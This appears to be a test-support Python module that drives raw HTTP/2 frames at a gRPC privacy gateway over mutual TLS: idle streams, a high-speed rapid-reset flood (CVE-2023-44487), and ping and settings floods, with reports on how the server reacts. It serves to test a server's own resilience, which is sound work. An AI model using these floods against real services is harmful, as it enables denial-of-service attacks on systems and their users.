"""A raw HTTP/2 client for abusing a gRPC server on purpose: idle streams, rapid reset, ping and settings floods.

It speaks HTTP/2 over TLS with a client certificate (mutual TLS, ALPN ``h2``) through the ``h2`` package, so it
can send frame sequences a gRPC client library never sends:

* **idle streams** (:meth:`H2AbuseClient.open_idle_streams`): HEADERS for a gRPC method and never a DATA frame,
  so the server holds a call that waits for its request message;
* **rapid reset** (:meth:`H2AbuseClient.rapid_reset`): HEADERS immediately followed by RST_STREAM(CANCEL), as
  fast as the connection takes them (CVE-2023-44487);
* **ping flood** / **settings flood** (:meth:`H2AbuseClient.ping_flood`, :meth:`H2AbuseClient.settings_flood`).

Every flood reports how many frames it sent and whether and when the server answered with GOAWAY (with its error
code and debug text) or closed the connection (:class:`FloodReport`). The client acknowledges the server's PINGs
and SETTINGS like a well-behaved peer, so only the abuse under test can get it closed (``ack_pings=False`` turns
that off).

The client is asyncio-based; :class:`IdleStreamHolder` runs one in a background thread, so a synchronous test can
hold idle streams open while it makes ordinary gRPC calls. ``python -m tests.h2abuse --help`` runs it by hand.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Final

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

#: The method the gateway's consumers call most; idle streams and floods aim at it unless told otherwise.
DEFAULT_PATH: Final = "/privacy_gateway.v1.QueryService/RunQuery"
_READ_CHUNK: Final = 65536
# Frame types and flags (RFC 9113 section 6) for the raw fast path.
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
_ACK, _END_HEADERS = 0x1, 0x4
_SETTINGS_ACK: Final = bytes.fromhex("000000040100000000")


def error_name(code: int) -> str:
    """The RFC 9113 name of an HTTP/2 error code (``ENHANCE_YOUR_CALM``), or the number for unknown codes."""
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


@dataclass(frozen=True)
class ClientTls:
    """A client's TLS identity: the CA that signed the server, and the client's certificate and key (PEM files)."""

    ca: Path
    cert: Path
    key: Path
    server_name: str = "localhost"

    @classmethod
    def from_pki(cls, tls_dir: Path, client: str) -> ClientTls:
        """The identity of ``client`` in a directory written by :func:`gateway.identity.certs.write_dev_pki`."""
        return cls(tls_dir / "ca.crt", tls_dir / f"{client}.crt", tls_dir / f"{client}.key")

    def ssl_context(self) -> ssl.SSLContext:
        """A TLS client context that verifies the server against :attr:`ca`, presents the client
        certificate and offers only ALPN ``h2``."""
        ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(self.ca))
        ctx.load_cert_chain(str(self.cert), str(self.key))
        ctx.set_alpn_protocols(["h2"])
        return ctx


def grpc_request_headers(
    authority: str, path: str = DEFAULT_PATH, *, timeout: str | None = None,
    metadata: Sequence[tuple[str, str]] = (),
) -> list[tuple[bytes, bytes]]:
    """The HEADERS of a gRPC call to ``path``, as a gRPC client sends them.

    Args:
        authority: ``host:port`` for ``:authority``.
        path: ``/package.Service/Method``.
        timeout: a ``grpc-timeout`` value (``"5S"``, ``"200m"``), or None for a call without a deadline.
        metadata: further (lower-case) headers.
    """
    headers = [
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", path.encode()),
        (b":authority", authority.encode()), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
        (b"user-agent", b"h2abuse/1"),
    ]
    if timeout is not None:
        headers.append((b"grpc-timeout", timeout.encode()))
    headers.extend((k.encode(), v.encode()) for k, v in metadata)
    return headers


@dataclass(frozen=True)
class GoAway:
    """A GOAWAY the server sent: error code (name), last stream it processed, debug text, and when."""

    error: str
    last_stream_id: int
    debug: str
    at_s: float


@dataclass(frozen=True)
class StreamEnd:
    """How the server ended one stream: ``"reset"`` (RST_STREAM with ``detail`` = error code name),
    ``"trailers"`` (``detail`` = grpc-status and grpc-message) or ``"connection"`` (closed with the connection)."""

    how: str
    detail: str
    at_s: float


@dataclass
class FloodReport:
    """What one flood sent and how the server reacted. Times are seconds since the flood started.

    ``sent`` counts streams (rapid reset), PINGs or SETTINGS frames. ``sent_at_goaway`` / ``sent_at_close`` are
    how many had been sent when the GOAWAY arrived or the connection closed. ``server_resets`` counts the
    RST_STREAM frames the server sent, by error code (``REFUSED_STREAM`` when it refused new streams).
    """

    kind: str
    seconds: float
    sent: int = 0
    goaway: GoAway | None = None
    sent_at_goaway: int | None = None
    closed_at_s: float | None = None
    sent_at_close: int | None = None
    server_resets: dict[str, int] = field(default_factory=dict)
    error: str | None = None

    @property
    def rate(self) -> float:
        """Frames (or streams) sent per second."""
        return self.sent / self.seconds if self.seconds > 0 else 0.0

    def as_dict(self) -> dict[str, object]:
        """A JSON-ready form."""
        out = asdict(self)
        out["rate"] = round(self.rate, 1)
        return out


def _without_ping_acks(data: bytes) -> bytes:
    """``data`` (whole HTTP/2 frames, as ``h2`` queues them) without its PING ACK frames."""
    out, i = bytearray(), 0
    while i + 9 <= len(data):
        end = i + 9 + int.from_bytes(data[i:i + 3], "big")
        if not (data[i + 3] == 0x6 and data[i + 4] & 0x1):
            out += data[i:end]
        i = end
    return bytes(out + data[i:])


class H2AbuseClient:
    """One HTTP/2 connection over mutual TLS, driven frame by frame. Use :meth:`connect`, then the abuse methods,
    then :meth:`close`. Not thread-safe: use it from the event loop that created it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, authority: str,
                 *, ack_pings: bool) -> None:
        self._reader = reader
        self._writer = writer
        self.authority = authority
        self._conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding=None, validate_inbound_headers=False))
        self._conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.ENABLE_PUSH: 0,
            h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100,
        })
        self._ack_pings = ack_pings
        self._t0 = time.monotonic()
        self.goaway: GoAway | None = None
        self.closed_at_s: float | None = None
        self.server_max_concurrent_streams: int | None = None
        self.settings_received = asyncio.Event()
        self.closed = asyncio.Event()
        self.stream_ends: dict[int, StreamEnd] = {}
        self.server_resets: Counter[str] = Counter()
        self.pings_received = 0
        self.pings_acked = 0  # ACKs of our PINGs
        self.settings_acked = 0  # ACKs of our SETTINGS (the first is the handshake's)
        self._progress = asyncio.Event()  # set whenever the reader has handled data
        self._trailers: dict[int, dict[bytes, bytes]] = {}
        self._rate: float | None = None  # streams per second the running flood may send (None: no cap)
        self.read_error: str | None = None  # why reading stopped, when not a clean end of stream
        self._raw: bytearray | None = None  # frames not yet parsed, once h2 is bypassed (see _go_raw)
        self._next_raw_id = 0
        self._reader_task: asyncio.Task[None] | None = None

    @classmethod
    async def connect(cls, host: str, port: int, tls: ClientTls, *, ack_pings: bool = True,
                      timeout: float = 10.0) -> H2AbuseClient:
        """Open a TLS connection, check that ALPN chose ``h2``, send the preface and wait for the server's SETTINGS.

        Raises:
            ConnectionError: if the server does not speak ``h2`` or sends no SETTINGS within ``timeout``.
        """
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, ssl=tls.ssl_context(), server_hostname=tls.server_name,
                                    limit=_READ_CHUNK * 4),
            timeout)
        ssl_object = writer.get_extra_info("ssl_object")
        if ssl_object is None or ssl_object.selected_alpn_protocol() != "h2":
            writer.close()
            raise ConnectionError(f"{host}:{port} did not negotiate ALPN h2")
        client = cls(reader, writer, f"{tls.server_name}:{port}", ack_pings=ack_pings)
        client._conn.initiate_connection()
        writer.write(client._conn.data_to_send())  # the preface is not a frame: never filtered
        client._reader_task = asyncio.create_task(client._read_loop())
        try:
            await asyncio.wait_for(client.settings_received.wait(), timeout)
        except TimeoutError as exc:
            await client.close()
            raise ConnectionError(f"{host}:{port} sent no SETTINGS within {timeout} s") from exc
        return client

    def now(self) -> float:
        """Seconds since this connection was opened."""
        return time.monotonic() - self._t0

    # -- reading ---------------------------------------------------------------------------------------------

    def _flush(self) -> None:
        data = self._conn.data_to_send()
        if not self._ack_pings:
            data = _without_ping_acks(data)
        if data and not self._writer.is_closing():
            self._writer.write(data)

    async def _read_loop(self) -> None:
        pending = bytearray()
        try:
            while True:
                data = await self._reader.read(_READ_CHUNK)
                if not data:
                    break
                if self._raw is not None:
                    self._receive_raw(data)
                else:
                    pending += data
                    self._receive_h2(pending)
                self._progress.set()
        except (ConnectionError, OSError, ssl.SSLError) as exc:
            self.read_error = f"{type(exc).__name__}: {exc}"
        finally:
            self._mark_closed()

    def _receive_h2(self, pending: bytearray) -> None:
        """Hand the complete frames in ``pending`` to ``h2`` one at a time (removing them from ``pending``).

        ``h2`` closes its state machine at a GOAWAY and then refuses every frame, although a server keeps
        serving open streams after a graceful GOAWAY (and pings to find out when to send the final one): after a
        GOAWAY the frame ``h2`` refuses, and everything after it, goes to the raw reader instead.
        """
        i = 0
        while i + 9 <= len(pending):
            end = i + 9 + int.from_bytes(pending[i:i + 3], "big")
            if end > len(pending):
                break
            try:
                events = self._conn.receive_data(bytes(pending[i:end]))
            except h2.exceptions.ProtocolError as exc:
                if self.goaway is None:
                    self.read_error = f"h2 refused the server's frames: {type(exc).__name__}: {exc}"
                    self._conn.clear_outbound_data_buffer()
                    self._writer.close()
                    del pending[:]
                    return
                self._conn.clear_outbound_data_buffer()  # h2's own GOAWAY(PROTOCOL_ERROR): never sent
                self._raw = bytearray()
                self._next_raw_id = self._conn.highest_outbound_stream_id + 2
                self._receive_raw(bytes(pending[i:]))
                del pending[:]
                return
            for event in events:
                self._on_event(event)
            i = end
        del pending[:i]
        self._flush()

    def _mark_closed(self) -> None:
        if self.closed_at_s is None:
            self.closed_at_s = self.now()
            for sid in self._open_ids():
                self.stream_ends.setdefault(sid, StreamEnd("connection", "closed", self.closed_at_s))
        self.closed.set()
        self._progress.set()

    def _open_ids(self) -> list[int]:
        return [sid for sid, s in self._conn.streams.items() if not s.closed and sid not in self.stream_ends]

    def _on_event(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.server_max_concurrent_streams = self._conn.remote_settings.max_concurrent_streams
            self.settings_received.set()
        elif isinstance(event, h2.events.ConnectionTerminated):
            if self.goaway is None:
                debug = (event.additional_data or b"").decode("utf-8", "replace")
                self.goaway = GoAway(error_name(int(event.error_code or 0)), int(event.last_stream_id or 0),
                                     debug, self.now())
        elif isinstance(event, h2.events.StreamReset) and event.remote_reset:
            name = error_name(int(event.error_code or 0))
            self.server_resets[name] += 1
            if event.stream_id is not None:
                self.stream_ends.setdefault(event.stream_id, StreamEnd("reset", name, self.now()))
        elif isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
            if event.stream_id is not None and event.headers is not None:
                self._trailers.setdefault(event.stream_id, {}).update(
                    (bytes(k), bytes(v)) for k, v in event.headers)
        elif isinstance(event, h2.events.StreamEnded) and event.stream_id is not None:
            hdrs = self._trailers.pop(event.stream_id, {})
            detail = f"grpc-status={hdrs.get(b'grpc-status', b'?').decode()} " \
                     f"{hdrs.get(b'grpc-message', b'').decode('utf-8', 'replace')}".strip()
            self.stream_ends.setdefault(event.stream_id, StreamEnd("trailers", detail, self.now()))
        elif isinstance(event, h2.events.DataReceived) and event.stream_id is not None:
            self._conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.PingReceived):
            self.pings_received += 1
        elif isinstance(event, h2.events.PingAckReceived):
            self.pings_acked += 1
        elif isinstance(event, h2.events.SettingsAcknowledged):
            self.settings_acked += 1

    def _go_raw(self) -> None:
        """Stop using ``h2`` for this connection: from now on frames are written pre-encoded and read by
        :meth:`_receive_raw`, which handles only what a flood needs (SETTINGS and PING ACKs, RST_STREAM, GOAWAY).
        ``h2`` costs about 100 us a stream; pre-encoded frames let one core send an order of magnitude more."""
        if self._raw is not None:
            return
        self._flush()
        self._raw = bytearray(self._conn.incoming_buffer._data)  # a partial frame h2 had not parsed yet
        self._next_raw_id = self._conn.get_next_available_stream_id()

    def _receive_raw(self, data: bytes) -> None:
        assert self._raw is not None
        buf = self._raw
        buf += data
        out = bytearray()
        i = 0
        while i + 9 <= len(buf):
            length = int.from_bytes(buf[i:i + 3], "big")
            if i + 9 + length > len(buf):
                break
            ftype, flags = buf[i + 3], buf[i + 4]
            sid = int.from_bytes(buf[i + 5:i + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[i + 9:i + 9 + length])
            i += 9 + length
            if ftype == _SETTINGS and flags & _ACK:
                self.settings_acked += 1
            elif ftype == _SETTINGS:
                out += _SETTINGS_ACK
            elif ftype == _PING and flags & _ACK:
                self.pings_acked += 1
            elif ftype == _PING:
                self.pings_received += 1
                if self._ack_pings:
                    out += bytes.fromhex("000008060100000000") + payload
            elif ftype == _RST_STREAM and length == 4:
                name = error_name(int.from_bytes(payload, "big"))
                self.server_resets[name] += 1
                self.stream_ends.setdefault(sid, StreamEnd("reset", name, self.now()))
            elif ftype == _GOAWAY and length >= 8 and self.goaway is None:
                self.goaway = GoAway(error_name(int.from_bytes(payload[4:8], "big")),
                                     int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                                     payload[8:].decode("utf-8", "replace"), self.now())
        del buf[:i]
        if out and not self._writer.is_closing():
            self._writer.write(bytes(out))

    # -- abuse ------------------------------------------------------------------------------------------------

    async def open_idle_streams(self, n: int, path: str = DEFAULT_PATH, *, timeout: str | None = None,
                                metadata: Sequence[tuple[str, str]] = (), ignore_limit: bool = False) -> list[int]:
        """Open ``n`` streams that send HEADERS for ``path`` and never a DATA frame; return their stream ids.

        The streams stay open until the server ends them (see :attr:`stream_ends`) or :meth:`close`. ``h2``
        refuses to open more than the server's SETTINGS_MAX_CONCURRENT_STREAMS at once; ``ignore_limit`` makes it
        believe the server allowed 2^31-1, to see what the server does with streams over its limit.
        """
        if self._raw is not None:
            raise RuntimeError("this connection bypasses h2 since a fast flood; open a new one")
        if ignore_limit:
            self._conn.remote_settings.update({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2**31 - 1})
            self._conn.remote_settings.acknowledge()
        headers = grpc_request_headers(self.authority, path, timeout=timeout, metadata=metadata)
        ids = []
        for _ in range(n):
            sid = self._conn.get_next_available_stream_id()
            self._conn.send_headers(sid, headers, end_stream=False)
            ids.append(sid)
        self._flush()
        await self._writer.drain()
        return ids

    def open_stream_count(self) -> int:
        """Streams this client opened that the server has not ended."""
        return len(self._open_ids())

    async def rapid_reset(self, seconds: float, path: str = DEFAULT_PATH, *, batch: int = 50, fast: bool = True,
                          rate: float | None = None, linger: float = 1.0) -> FloodReport:
        """HEADERS immediately followed by RST_STREAM(CANCEL), ``batch`` streams per write, for ``seconds``.

        With ``fast`` (the default) the frames are pre-encoded and the connection stops using ``h2`` for good
        (:meth:`_go_raw`): a much faster flood, after which :meth:`open_idle_streams` is no longer available and
        :attr:`stream_ends` records only server resets. Stops early when the server sends GOAWAY or closes the
        connection, then waits up to ``linger`` seconds for the close that follows a GOAWAY. ``rate`` caps the
        streams per second (None: as fast as the connection takes them).
        """
        headers = grpc_request_headers(self.authority, path)
        report = FloodReport("rapid_reset", seconds)
        self._rate = rate
        if not fast:
            def h2_batch() -> None:
                for _ in range(batch):
                    sid = self._conn.get_next_available_stream_id()
                    self._conn.send_headers(sid, headers, end_stream=False)
                    self._conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    report.sent += 1
            return await self._flood(report, h2_batch, linger)

        self._go_raw()
        # The first block adds the headers to the HPACK dynamic table; once they are all there, every later
        # encoding is the same run of indices, so one block serves every following stream.
        first = self._conn.encoder.encode(headers)
        block = self._conn.encoder.encode(headers)
        if self._conn.encoder.encode(headers) != block:
            raise RuntimeError("HPACK encoding of the request headers is not stable")

        def frames(sid: int, hpack_block: bytes) -> bytes:
            return (len(hpack_block).to_bytes(3, "big") + bytes((_HEADERS, _END_HEADERS)) + sid.to_bytes(4, "big")
                    + hpack_block + bytes.fromhex("00000403") + b"\0" + sid.to_bytes(4, "big")
                    + int(h2.errors.ErrorCodes.CANCEL).to_bytes(4, "big"))

        head = len(block).to_bytes(3, "big") + bytes((_HEADERS, _END_HEADERS))
        rst = bytes.fromhex("0000040300")
        cancel = int(h2.errors.ErrorCodes.CANCEL).to_bytes(4, "big")
        pending_first = [first]

        def one_batch() -> None:
            out = bytearray()
            if pending_first:
                out += frames(self._next_raw_id, pending_first.pop())
                self._next_raw_id += 2
                report.sent += 1
            for _ in range(batch):
                sid = self._next_raw_id.to_bytes(4, "big")
                out += head + sid + block + rst + sid + cancel
                self._next_raw_id += 2
            report.sent += batch
            self._writer.write(bytes(out))

        return await self._flood(report, one_batch, linger)

    async def ping_flood(self, seconds: float, *, batch: int = 100, linger: float = 1.0) -> FloodReport:
        """PING frames (not ACKs), ``batch`` per write, for ``seconds``; stops at GOAWAY or close.

        Each batch waits for the server's ACKs of the one before (up to 1 s), so the flood never writes into a
        connection the server has already closed (the write error would hide the GOAWAY still unread)."""
        report = FloodReport("ping_flood", seconds)
        counter = 0
        base = self.pings_acked

        def one_batch() -> None:
            nonlocal counter
            for _ in range(batch):
                counter += 1
                self._conn.ping(counter.to_bytes(8, "big"))
                report.sent += 1

        return await self._flood(report, one_batch, linger, lambda: self.pings_acked - base)

    async def settings_flood(self, seconds: float, *, batch: int = 100, linger: float = 1.0) -> FloodReport:
        """SETTINGS frames (each one the server must ACK), ``batch`` per write, for ``seconds``; stops at GOAWAY
        or close. Like :meth:`ping_flood`, each batch waits for the ACKs of the one before."""
        report = FloodReport("settings_flood", seconds)
        window = 65535
        base = self.settings_acked

        def one_batch() -> None:
            nonlocal window
            for _ in range(batch):
                window = 65535 + (window + 1) % 1024
                self._conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
                report.sent += 1

        return await self._flood(report, one_batch, linger, lambda: self.settings_acked - base)

    async def _await_acks(self, acked: Callable[[], int], wanted: int, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while acked() < wanted and not self.closed.is_set() and self.goaway is None:
            self._progress.clear()
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._progress.wait(), remaining)

    async def _flood(self, report: FloodReport, one_batch: Callable[[], None], linger: float,
                     acked: Callable[[], int] | None = None) -> FloodReport:
        t_start = self.now()
        had_goaway, had_closed = self.goaway is not None, self.closed.is_set()
        try:
            while self.now() - t_start < report.seconds and not self.closed.is_set():
                if self.goaway is not None and not had_goaway:
                    break
                one_batch()
                self._flush()
                await self._writer.drain()
                if acked is not None:
                    await self._await_acks(acked, report.sent, 1.0)
                elif self._rate is not None:
                    await asyncio.sleep(max(0.0, report.sent / self._rate - (self.now() - t_start)))
                else:
                    await asyncio.sleep(0)  # let the reader handle what the server sent
                if self.goaway is not None and not had_goaway and report.sent_at_goaway is None:
                    report.sent_at_goaway = report.sent
        except (ConnectionError, OSError, ssl.SSLError, h2.exceptions.ProtocolError) as exc:
            report.error = f"{type(exc).__name__}: {exc}"
            await self.wait_closed(linger)  # what the server sent before the close may still be in flight
        report.seconds = self.now() - t_start
        if self.goaway is not None and not had_goaway:
            await self.wait_closed(linger)
            g = self.goaway
            report.goaway = GoAway(g.error, g.last_stream_id, g.debug, g.at_s - t_start)
            if report.sent_at_goaway is None:
                report.sent_at_goaway = report.sent
        if self.closed_at_s is not None and not had_closed:
            report.closed_at_s = self.closed_at_s - t_start
            report.sent_at_close = report.sent
        report.server_resets = dict(self.server_resets)
        return report

    async def wait_closed(self, timeout: float) -> bool:
        """Wait up to ``timeout`` seconds for the server to close the connection; True if it did."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.closed.wait(), timeout)
        return self.closed.is_set()

    async def close(self) -> None:
        """Close the connection (without a GOAWAY: an abusive client would not send one)."""
        self._writer.close()
        with contextlib.suppress(ConnectionError, OSError, ssl.SSLError, TimeoutError):
            await asyncio.wait_for(self._writer.wait_closed(), 2.0)
        if self._reader_task is not None:
            self._reader_task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._reader_task
        self._mark_closed()
